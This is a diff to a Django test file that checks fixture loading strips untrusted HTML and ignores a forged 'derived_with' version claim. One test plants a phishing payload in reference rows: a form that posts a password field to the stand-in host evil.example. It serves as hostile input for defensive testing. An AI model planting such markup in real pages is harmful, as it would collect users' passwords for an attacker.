@@ -30,6 +30,7 @@ def test_loaddata_gives_the_full_page(client):
     assert '<li id="cite_note-4">' in body
     assert body.count('<nav class="catlinks"') == 1
     assert Article.objects.get().related_entries.count() == 5
+    assert not Article.objects.derived_before().exists()
 
 
 def test_dump_flush_load_round_trip(client, tmp_path):
@@ -65,12 +66,15 @@ def test_fixture_html_is_never_trusted(client, tmp_path):
 
 
 def test_fixture_html_never_stays_even_when_an_article_cannot_be_rendered(client, tmp_path, monkeypatch):
+    from articles.preparing import DERIVATION_VERSION
     from references.models import Reference
 
     data = json.loads(settings.SEED_FIXTURE.read_text(encoding="utf-8"))
     for row in data:
         if row["model"] == "references.reference":
             row["fields"]["html"] = '<form action="//evil.example"><input name="password"></form>'
+        if row["model"] == "articles.article":
+            row["fields"]["derived_with"] = DERIVATION_VERSION  # a claim render_articles must not believe
     hostile = tmp_path / "hostile.json"
     hostile.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
 
@@ -80,3 +84,4 @@ def test_fixture_html_never_stays_even_when_an_article_cannot_be_rendered(client
     monkeypatch.setattr(Article, "render", fail)
     call_command("loaddata", str(hostile), verbosity=0, stdout=StringIO())
     assert set(Reference.objects.values_list("html", flat=True)) == {""}
+    assert list(Article.objects.derived_before().values_list("title", flat=True)) == ["西伯利亞滯留者"]
